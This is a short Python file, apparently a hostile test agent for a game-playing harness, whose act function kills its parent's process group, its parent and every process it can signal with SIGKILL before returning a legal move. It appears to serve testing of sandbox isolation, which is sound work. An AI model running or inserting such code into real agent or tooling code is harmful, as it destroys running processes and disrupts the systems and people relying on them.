"""Kills its parent's process group, its parent, and every process it can signal."""

import os
import signal


def act(observation, legal_actions, rng):
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return legal_actions[0]
